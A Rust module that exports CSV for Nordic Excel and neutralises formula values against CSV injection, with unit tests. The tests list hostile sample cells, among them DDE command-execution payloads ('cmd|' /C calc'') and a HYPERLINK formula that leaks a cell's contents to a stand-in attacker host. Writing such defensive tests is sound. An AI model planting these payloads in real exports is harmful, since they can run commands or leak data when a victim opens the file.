//! Files people open in Excel. Every value written goes through [`cell_text`], so no
//! file the product writes can run a formula or fail on what a value holds.

use std::borrow::Cow;

/// A CSV written the way Nordic Excel reads one without asking: UTF-8 with a byte
/// order mark, `;` between fields (`,` is their decimal mark), CRLF line ends. A file
/// that goes back to its owner can keep the delimiter they used
/// ([`ExcelCsv::with_delimiter`]).
#[derive(Debug)]
pub struct ExcelCsv {
    out: String,
    delimiter: char,
}

impl Default for ExcelCsv {
    fn default() -> Self {
        ExcelCsv::new()
    }
}

impl ExcelCsv {
    pub fn new() -> ExcelCsv {
        ExcelCsv::with_delimiter(b';')
    }

    /// Fields separated by `delimiter` (an ASCII byte, as a delimited file has it).
    pub fn with_delimiter(delimiter: u8) -> ExcelCsv {
        ExcelCsv {
            out: String::from("\u{feff}"),
            delimiter: char::from(delimiter),
        }
    }

    pub fn record<'a>(&mut self, fields: impl IntoIterator<Item = &'a str>) {
        for (i, field) in fields.into_iter().enumerate() {
            if i > 0 {
                self.out.push(self.delimiter);
            }
            self.field(&cell_text(field));
        }
        self.out.push_str("\r\n");
    }

    fn field(&mut self, field: &str) {
        if field.contains([self.delimiter, '"', '\r', '\n']) {
            self.out.push('"');
            self.out.push_str(&field.replace('"', "\"\""));
            self.out.push('"');
        } else {
            self.out.push_str(field);
        }
    }

    pub fn finish(self) -> String {
        self.out
    }
}

/// The most a spreadsheet cell holds: Excel's limit, in UTF-16 code units.
pub const CELL_MAX: usize = 32_767;

/// A value as any cell of a written file holds it: characters no spreadsheet or XML
/// can hold replaced by U+FFFD, a formula neutralised, cut to [`CELL_MAX`]. Never
/// fails: values stored before validation refused them (NUL, 40,000 characters) still
/// export.
pub fn cell_text(value: &str) -> Cow<'_, str> {
    let value = writable(value);
    let value = match neutralize_formula(&value) {
        Cow::Owned(neutral) => Cow::Owned(neutral),
        Cow::Borrowed(_) => value,
    };
    cut(value)
}

/// A value as a text cell of a workbook holds it: as [`cell_text`], but not
/// neutralised. A text cell is never evaluated, so `+47 912 34 567` stays as typed,
/// with no apostrophe to show.
pub fn text_cell(value: &str) -> Cow<'_, str> {
    cut(writable(value))
}

fn writable(value: &str) -> Cow<'_, str> {
    match value.chars().any(unwritable) {
        true => Cow::Owned(
            value
                .chars()
                .map(|c| if unwritable(c) { '\u{fffd}' } else { c })
                .collect(),
        ),
        false => Cow::Borrowed(value),
    }
}

/// `value` cut to [`CELL_MAX`] UTF-16 units, at a character's start.
fn cut(value: Cow<'_, str>) -> Cow<'_, str> {
    // A byte is at least a UTF-16 unit, so most values need no counting.
    if value.len() <= CELL_MAX {
        return value;
    }
    let mut units = 0;
    let end = value
        .char_indices()
        .find(|(_, c)| {
            units += c.len_utf16();
            units > CELL_MAX
        })
        .map(|(i, _)| i);
    match (end, value) {
        (None, value) => value,
        (Some(end), Cow::Borrowed(value)) => Cow::Borrowed(&value[..end]),
        (Some(end), Cow::Owned(mut value)) => {
            value.truncate(end);
            Cow::Owned(value)
        }
    }
}

/// What XML 1.0 cannot hold (controls but tab and line breaks, U+FFFE/F) and Excel
/// would show as garbage or cut the cell at.
fn unwritable(c: char) -> bool {
    (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || matches!(c, '\u{fffe}' | '\u{ffff}')
}

/// A value a spreadsheet could read as a formula gets a leading apostrophe, so it is
/// shown as the text it is. That is anything starting with what Excel, LibreOffice or
/// Google Sheets take for the start of a formula (OWASP's list `= + - @`, tab, CR, and
/// LF and NUL as ASVS adds; their full-width forms `＝ ＋ － ＠`, which East Asian
/// input turns into formulas), also after leading white space, which some importers
/// trim. Left as it is: a sign, digits and at most one decimal mark (`-12`, `+47`,
/// `-1,5`), which can only be read as a number, and so the product's phone format
/// (`+4712345678`). Not `-1e5` or `+47 912 34 567`: a letter or a space (Excel's
/// intersection operator) already makes an expression, and an apostrophe before a
/// number costs nothing.
pub fn neutralize_formula(value: &str) -> Cow<'_, str> {
    let risky = match value.chars().next() {
        None => false,
        Some('\t' | '\r' | '\n' | '\0') => true,
        Some(_) => {
            let start = value.trim_start();
            match start.chars().next() {
                Some('=' | '@' | '＝' | '＠' | '＋' | '－') => true,
                Some('+' | '-') => !is_signed_number(start),
                _ => false,
            }
        }
    };
    if risky {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// `+` or `-`, then digits with at most one `.` or `,` among them.
fn is_signed_number(value: &str) -> bool {
    let digits = &value.as_bytes()[1..];
    let marks = digits.iter().filter(|b| matches!(b, b'.' | b',')).count();
    marks <= 1
        && digits.iter().any(u8::is_ascii_digit)
        && digits
            .iter()
            .all(|b| b.is_ascii_digit() || matches!(b, b'.' | b','))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// OWASP's classes of CSV injection, what slips past a first-character check, and
    /// what must stay as it is.
    #[test]
    fn formulas_are_neutralized_and_only_plain_numbers_kept() {
        let cases: [(&str, bool); 48] = [
            // Formulas, by their first character.
            ("=1+1", true),
            ("=HYPERLINK(\"http://evil.example?\"&A1;\"Klikk\")", true),
            ("@SUM(A1:A9)", true),
            ("+cmd|' /C calc'!A0", true),
            ("-2+3+cmd|' /C calc'!A0", true),
            ("+1+1", true),
            ("-1+1", true),
            ("-1-1", true),
            ("+1*2", true),
            ("-1/2", true),
            ("+47 912 34 567", true),
            ("+358 (0)40 123 4567", true),
            ("-(1)", true),
            ("-1e5", true),
            ("+1,000.5", true),
            ("-5%", true),
            ("-", true),
            ("+", true),
            ("--1", true),
            ("-A1", true),
            ("=", true),
            ("@", true),
            // Control characters that start a formula or a new cell.
            ("\t=1+1", true),
            ("\r=1+1", true),
            ("\n=1+1", true),
            ("\0=1+1", true),
            ("\tx", true),
            // After white space some importers trim.
            (" =1+1", true),
            ("\u{a0}@SUM(A1)", true),
            ("  -1+1", true),
            // Full-width forms.
            ("＝1+1", true),
            ("＋1+1", true),
            ("－1+1", true),
            ("＠SUM(A1)", true),
            // Plain numbers and the product's phone format.
            ("-12", false),
            ("+47", false),
            ("-1.5", false),
            ("-1,5", false),
            ("-.5", false),
            ("+4712345678", false),
            ("+358401234567", false),
            ("1e5", false),
            ("12-34", false),
            // Text that only holds the characters later on.
            ("Ola", false),
            ("a=b", false),
            ("ola@example.no", false),
            ("Storgata 1 - 3", false),
            ("", false),
        ];
        for (value, risky) in cases {
            let written = neutralize_formula(value);
            if risky {
                assert_eq!(written, format!("'{value}"), "{value:?}");
            } else {
                assert_eq!(written, value, "{value:?}");
            }
        }
    }

    #[test]
    fn a_cell_holds_what_a_spreadsheet_can_and_never_more() {
        assert_eq!(cell_text("Ola"), "Ola");
        assert!(matches!(cell_text("Ola"), Cow::Borrowed(_)));
        assert_eq!(
            cell_text("Ola\0Nordmann\u{1b}"),
            "Ola\u{fffd}Nordmann\u{fffd}"
        );
        assert_eq!(cell_text("a\tb\r\nc\u{ffff}"), "a\tb\r\nc\u{fffd}");
        // A NUL first is replaced before the formula check, then still neutralised.
        assert_eq!(cell_text("\0=1+1"), "\u{fffd}=1+1");
        assert_eq!(cell_text("=1+1"), "'=1+1");
        let long = "ø".repeat(40_000);
        assert_eq!(cell_text(&long), "ø".repeat(CELL_MAX));
        let at_limit = "a".repeat(CELL_MAX);
        assert_eq!(cell_text(&at_limit), at_limit);
        // The apostrophe counts too.
        let formula = format!("={}", "1".repeat(CELL_MAX - 1));
        let written = cell_text(&formula);
        assert_eq!(written.len(), CELL_MAX);
        assert!(written.starts_with("'="));
        // An emoji is two units and is not split.
        let emoji = format!("{}😀", "a".repeat(CELL_MAX - 1));
        assert_eq!(cell_text(&emoji), "a".repeat(CELL_MAX - 1));
    }

    #[test]
    fn a_text_cell_keeps_what_was_typed_and_no_more() {
        assert_eq!(text_cell("+47 912 34 567"), "+47 912 34 567");
        assert_eq!(text_cell("=1+1"), "=1+1");
        assert!(matches!(text_cell("Ola"), Cow::Borrowed(_)));
        assert_eq!(text_cell("Ola\0"), "Ola\u{fffd}");
        assert_eq!(text_cell(&"ø".repeat(40_000)), "ø".repeat(CELL_MAX));
    }

    #[test]
    fn csv_is_excel_dialect() {
        let mut csv = ExcelCsv::new();
        csv.record(["Navn", "Notat"]);
        csv.record(["Ola; \"Nordmann\"", "=HYPERLINK(\"x\")"]);
        assert_eq!(
            csv.finish(),
            "\u{feff}Navn;Notat\r\n\"Ola; \"\"Nordmann\"\"\";\"'=HYPERLINK(\"\"x\"\")\"\r\n"
        );
    }

    #[test]
    fn another_delimiter_is_quoted_instead_of_the_semicolon() {
        let mut csv = ExcelCsv::with_delimiter(b'\t');
        csv.record(["Navn", "Notat"]);
        csv.record(["Ola;\tNordmann", "x"]);
        assert_eq!(
            csv.finish(),
            "\u{feff}Navn\tNotat\r\n\"Ola;\tNordmann\"\tx\r\n"
        );
    }
}
